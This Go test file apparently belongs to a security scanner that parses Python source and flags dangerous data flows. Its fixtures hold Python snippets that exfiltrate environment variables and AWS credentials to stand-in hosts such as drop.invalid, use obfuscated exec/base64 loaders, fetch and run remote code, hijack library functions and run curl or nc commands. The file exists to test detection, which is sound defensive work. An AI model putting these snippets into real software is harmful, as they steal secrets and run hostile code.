package pysyntax_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/lamina-sec/lamina/internal/pysyntax"
)

// flows writes flows one a line: what reached what.
func flows(f *pysyntax.Facts) []string {
	var out []string
	for _, x := range f.Flows {
		s := fmt.Sprintf("%s(%s):%d -> %s(%s):%d", x.Source, x.SourceName, x.SourceLine, x.Sink, x.SinkName, x.SinkLine)
		if x.Host != "" {
			s += " " + x.Host
		}
		if len(x.Via) > 0 {
			s += " via " + strings.Join(x.Via, ",")
		}
		if x.AtImport {
			s += " at import"
		}
		out = append(out, s)
	}
	return out
}

func encoded(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestParse_flows(t *testing.T) {
	tests := map[string]struct {
		src  string
		want []string
	}{
		"environ_post": {`import os, requests
requests.post("https://drop.invalid/x", json=dict(os.environ))
`, []string{"env-all(os.environ):2 -> http(requests.post):2 drop.invalid at import"}},
		"environ_urlopen": {`import os, json, urllib.request as u
def send():
    d = json.dumps(dict(os.environ)).encode()
    r = u.Request("https://drop.invalid/", data=d)
    u.urlopen(r, timeout=1)
send()
`, []string{"env-all(os.environ):3 -> http(urllib.request.urlopen):5 via json at import"}},
		"environ_obfuscated": {`o = __import__('so'[::-1])
e = getattr(o, 'env' + 'iron')
r = __import__(''.join(map(chr, [114,101,113,117,101,115,116,115])))
getattr(r, 'p' + 'ost')('https://' + 'drop' + '.invalid', data={k: v for k, v in e.items()})
`, []string{"env-all(os.environ):4 -> http(requests.post):4 drop.invalid at import"}},
		"credentials_dns": {`import os, socket, base64
k = os.environ["AWS_SECRET_ACCESS_KEY"]
for i in range(0, len(k), 8):
    socket.gethostbyname(base64.b32encode(k[i:i+8].encode()).decode() + ".drop.invalid")
`, []string{"env-credential(AWS_SECRET_ACCESS_KEY):2 -> dns(socket.gethostbyname):4 {}.drop.invalid via base64 at import"}},
		"credentials_names_in_a_list": {`import os, http.client
c = http.client.HTTPSConnection("drop.invalid")
c.request("POST", "/", "&".join(os.getenv(n, "") for n in ("AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN")))
`, []string{
			"env-credential(AWS_ACCESS_KEY_ID):3 -> http(http.client.HTTPSConnection().request):3 drop.invalid at import",
			"env-credential(AWS_SESSION_TOKEN):3 -> http(http.client.HTTPSConnection().request):3 drop.invalid at import",
		}},
		"proc_environ_socket": {`import socket
with open("/proc/self/environ", "rb") as f:
    data = f.read()
s = socket.socket()
s.connect(("198.51.100.7", 443))
s.sendall(data)
`, []string{"proc-environ(/proc/*/environ):2 -> socket(socket.socket().sendall):6 198.51.100.7 at import"}},
		"metadata": {`import urllib.request, os
u = "http://169.254.170.2" + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]
c = urllib.request.urlopen(u).read()
urllib.request.urlopen("https://drop.invalid/c", data=c)
`, []string{"metadata(metadata endpoint):3 -> http(urllib.request.urlopen):4 drop.invalid at import"}},
		"sdk_credentials_s3": {`import boto3
s = boto3.Session()
c = s.get_credentials().get_frozen_credentials()
boto3.client("s3").put_object(Bucket="drop-bucket", Key="k", Body=c.secret_key)
`, []string{"sdk-credentials(get_credentials):4 -> aws(boto3.client(s3).put_object):4 drop-bucket at import"}},
		"handler_event": {`import requests
def wrap(fn):
    def inner(event, context):
        requests.post("https://drop.invalid", json={"e": event})
        return fn(event, context)
    return inner
`, []string{"event(event):3 -> http(requests.post):4 drop.invalid"}},
		"handler_event_obfuscated": {`import requests as _r
def w(f):
    def i(*a, **k):
        _r.post("https://drop.invalid", data=str(a[0]))
        return f(*a, **k)
    return i
`, []string{"patched-args(arguments of a wrapped function):3 -> http(requests.post):4 drop.invalid"}},
		"patched_driver": {`import pymysql, socket
real = pymysql.connect
def connect(*args, **kw):
    s = socket.create_connection(("drop.invalid", 53))
    s.send(repr(kw).encode())
    return real(*args, **kw)
pymysql.connect = connect
`, []string{"patched-args(pymysql.connect):3 -> socket(socket.create_connection().send):5 drop.invalid"}},
		"through_a_thread": {`import threading, os, requests
def go(d):
    requests.post("https://drop.invalid", data=d)
threading.Thread(target=go, args=(dict(os.environ),)).start()
`, []string{"env-all(os.environ):4 -> http(requests.post):3 drop.invalid at import"}},
		"through_an_object": {`import os, socket
class Agent:
    def __init__(self):
        self.data = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    def collect(self):
        self.data.append(os.environ.copy())
    def ship(self):
        self.sock.sendto(str(self.data).encode(), ("drop.invalid", 53))
`, []string{"env-all(os.environ):7 -> socket(socket.socket().sendto):9 drop.invalid"}},
		"decoded_code": {`import base64, zlib
exec(zlib.decompress(base64.b64decode("` + encoded("not zlib, but who knows that before") + `")))
`, []string{
			"decoded(base64.b64decode):2 -> code(builtins.exec):2 at import",
			"decoded(zlib.decompress):2 -> code(builtins.exec):2 at import",
		}},
		"decoded_code_hidden": {`import base64
def d(s):
    return base64.b64decode(s[::-1])
e = getattr(__builtins__, "ex" + "ec")
e(compile(d("` + reverse(encoded("import os")) + `"), "", "exec"))
`, []string{
			"decoded(base64.b64decode):3 -> code(builtins.compile):5 at import",
			"decoded(base64.b64decode):3 -> code(builtins.exec):5 at import",
		}},
		"remote_code": {`import urllib.request
exec(urllib.request.urlopen("https://drop.invalid/p").read())
`, []string{"remote(urllib.request.urlopen):2 -> code(builtins.exec):2 at import"}},
		"event_to_shell": {`import subprocess
def lambda_handler(event, context):
    return subprocess.check_output(event["q"], shell=True)
`, []string{"event(event):2 -> process(subprocess.check_output):3"}},
		"curl": {`import os
os.system("curl -d \"%s\" https://drop.invalid" % os.environ)
`, []string{`env-all(os.environ):2 -> process(os.system):2 curl -d "{}" https://drop.invalid at import`}},

		"generator": {`import os, urllib.request
def c():
    for k, v in os.environ.items():
        yield k + v
urllib.request.urlopen("https://drop.invalid", data="".join(c()).encode())
`, []string{"env-all(os.environ):3 -> http(urllib.request.urlopen):5 drop.invalid at import"}},
		"self_by_another_name": {`import requests, os
class A:
    def __init__(s, k): s.k = k
    def go(s): requests.post("https://drop.invalid", data=s.k)
A(os.environ["AWS_SESSION_TOKEN"]).go()
`, []string{"env-credential(AWS_SESSION_TOKEN):5 -> http(requests.post):4 drop.invalid at import"}},
		"aiohttp": {`import asyncio, aiohttp, os
async def m():
    async with aiohttp.ClientSession() as s:
        async with s.post("https://drop.invalid", json=dict(os.environ)) as r:
            await r.text()
asyncio.run(m())
`, []string{"env-all(os.environ):4 -> http(aiohttp.ClientSession().post):4 drop.invalid at import"}},
		"mail": {`import os, smtplib
s = smtplib.SMTP("mail.drop.invalid")
s.sendmail("a", "b", str(dict(os.environ)))
`, []string{"env-all(os.environ):3 -> mail(smtplib.SMTP().sendmail):3 mail.drop.invalid at import"}},
		"queue": {`import boto3, os, json
boto3.client("sqs").send_message(QueueUrl="https://sqs.us-east-1.amazonaws.com/111122223333/q", MessageBody=json.dumps(dict(os.environ)))
`, []string{"env-all(os.environ):2 -> aws(boto3.client(sqs).send_message):2 https://sqs.us-east-1.amazonaws.com/111122223333/q via json at import"}},
		"file": {`import os
with open("/tmp/x", "w") as f:
    f.write(str(os.environ))
`, []string{"env-all(os.environ):3 -> file-write(builtins.open().write):3 /tmp/x at import"}},
		"lambda_decoder": {`_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]));exec((_)(b"=abcd"))
`, []string{"decoded(base64.b64decode):1 -> code(builtins.exec):1 at import", "decoded(zlib.decompress):1 -> code(builtins.exec):1 at import"}},

		// what is like the above, and clean
		"clean_signing": {`import os, hmac, hashlib, urllib.request
key = os.environ["AWS_SECRET_ACCESS_KEY"]
sig = hmac.new(key.encode(), b"x", hashlib.sha256).hexdigest()
urllib.request.urlopen(urllib.request.Request("https://s3.amazonaws.com/", headers={"Authorization": sig}))
`, nil},
		"clean_child_environment": {`import os, subprocess
env = dict(os.environ, LANG="C")
subprocess.run(["ls", "-l"], env=env, check=True)
`, nil},
		"clean_setting": {`import os, requests
url = os.environ.get("API_URL", "https://api.example.com")
requests.get(url, timeout=int(os.environ["TIMEOUT"]))
`, nil},
		"clean_client": {`import boto3
def handler(event, context):
    s3 = boto3.client("s3")
    return s3.get_object(Bucket="b", Key="k")["Body"].read()
`, nil},
		"clean_decode": {`import base64, json
def load(x):
    return json.loads(base64.b64decode(x))
`, nil},
		"clean_docstring": {`"""Do not requests.post("https://drop.invalid", os.environ)."""
# requests.post("https://drop.invalid", os.environ)
x = "exec(base64.b64decode(data))"
`, nil},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			f := pysyntax.Parse([]byte(tt.src))
			if d := cmp.Diff(tt.want, flows(f)); d != "" {
				t.Error(d)
			}
			one, err := json.Marshal(f)
			if err != nil {
				t.Fatal(err)
			}
			two, err := json.Marshal(pysyntax.Parse([]byte(tt.src)))
			if err != nil || !bytes.Equal(one, two) {
				t.Errorf("not the same twice:\n%s\n%s", one, two)
			}
			var back pysyntax.Facts
			if err := json.Unmarshal(one, &back); err != nil {
				t.Error(err)
			} else if d := cmp.Diff(f, &back); d != "" {
				t.Errorf("JSON does not carry all: %s", d)
			}
			if len(tt.want) > 0 && !pysyntax.MayMatter([]byte(tt.src)) {
				t.Error("MayMatter says no")
			}
			if len(f.Errors) > 0 {
				t.Error(f.Errors)
			}
		})
	}
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

func TestParse_patches(t *testing.T) {
	tests := map[string]struct {
		src  string
		want []string
	}{
		"module":         {"import http.client as h\ndef f(s): pass\nh.HTTPConnection.request = f\n", []string{"module http.client.HTTPConnection.request by f"}},
		"module_setattr": {"import requests\nsetattr(requests.Session, 'se' + 'nd', lambda *a: None)\n", []string{"module requests.Session.send by (anonymous)"}},
		"module_dict":    {"import boto3\nboto3.__dict__['client'] = print\n", []string{"module boto3.client by builtins.print"}},
		"builtin":        {"import builtins\nbuiltins.open = None\n", []string{"builtin builtins.open by "}},
		"builtin_import": {"def f(*a): pass\n__builtins__['__import__'] = f\n", []string{"import-system builtins.__import__ by f"}},
		"modules":        {"import sys\nsys.modules['json'] = object()\n", []string{"import-system sys.modules.json by "}},
		"wrapt":          {"import wrapt\ndef w(a, b, c, d): pass\nwrapt.wrap_function_wrapper('botocore.client', 'BaseClient._make_api_call', w)\n", []string{"module botocore.client.BaseClient._make_api_call by w"}},
		"in_function":    {"import ssl\ndef g():\n    ssl.create_default_context = ssl._create_unverified_context\n", []string{"module ssl.create_default_context by ssl._create_unverified_context"}},
		"clean_self":     {"class C:\n    def f(self): self.x = 1\nc = C()\nc.x = 2\nC.y = 3\n", nil},
		"clean_instance": {"import requests\ns = requests.Session()\ns.verify = False\nimport os\nos.environ['A'] = 'b'\n", nil},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, p := range pysyntax.Parse([]byte(tt.src)).Patches {
				got = append(got, p.Kind+" "+p.Target+" by "+p.By)
			}
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Error(d)
			}
			if len(tt.want) > 0 && !pysyntax.MayMatter([]byte(tt.src)) {
				t.Error("MayMatter says no")
			}
		})
	}
}

func TestParse_calls(t *testing.T) {
	tests := map[string]struct {
		src  string
		want []string
	}{
		"alias":       {"e = exec\ne('x')\n", []string{"code builtins.exec at import"}},
		"from_alias":  {"from os import system as s\ns('id')\n", []string{"process os.system [id] at import"}},
		"star":        {"from subprocess import *\nPopen(['nc', '198.51.100.7', '9'])\n", []string{"process subprocess.Popen [nc 198.51.100.7 9] at import"}},
		"getattr":     {"import os\ngetattr(os, 'sys'+'tem')('id')\n", []string{"process os.system [id] folded at import"}},
		"own_names":   {"globals()['__builtins__'].__dict__['exec']('x')\n", []string{"code builtins.exec at import"}},
		"handed":      {"(lambda e, x: e(x))(eval, 'y')\n", []string{"code builtins.eval at import"}},
		"numbers":     {"k=7\ns=[110,107]\nexec(''.join(chr(c^k) for c in s))\n", []string{"code builtins.exec folded at import"}},
		"in_dict":     {"import os\nd = {'a': os.system}\nd['a']('id')\n", []string{"process os.system [id] at import"}},
		"globals":     {"import os\nglobals()['os']\nvars(os)['system']('id')\n", []string{"process os.system [id] at import"}},
		"method_dict": {"import os\nos.__dict__['po' + 'pen']('id')\n", []string{"process os.popen [id] folded at import"}},
		"class":       {"class X:\n    import os\n    os.system('id')\n    def f(self):\n        import os\n        os.system('no')\n", []string{"process os.system [id] at import", "process os.system [no]"}},
		"main":        {"import os\nif __name__ == '__main__':\n    os.system('id')\n", []string{"process os.system [id]"}},
		"path":        {"import sys\nsys.path.insert(0, '/opt/x')\nsys.meta_path.append(F())\n", []string{"import-system sys.path.insert [ /opt/x] at import", "import-system sys.meta_path.append at import"}},
		"secret_args": {"import requests\nrequests.post('https://u:p@h.invalid/a?k=v', auth='hunter2', password='x')\n", []string{"http requests.post [https://h.invalid/a?k=…] h.invalid at import"}},
		"native":      {"import ctypes\nctypes.CDLL('libc.so.6')\n", []string{"native ctypes.CDLL [libc.so.6] at import"}},
		"wrong_order": {"def f():\n    g()\ndef g():\n    import os\n    os.system('id')\nf()\n", []string{"process os.system [id] at import"}},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, c := range pysyntax.Parse([]byte(tt.src)).Calls {
				s := c.Kind + " " + c.Callee
				if len(c.Args) > 0 {
					s += fmt.Sprint(" ", c.Args)
				}
				if c.Kind == "http" {
					s += " " + c.Target
				}
				if c.Folded {
					s += " folded"
				}
				if c.AtImport {
					s += " at import"
				}
				got = append(got, s)
			}
			if d := cmp.Diff(tt.want, got); d != "" {
				t.Error(d)
			}
		})
	}
}
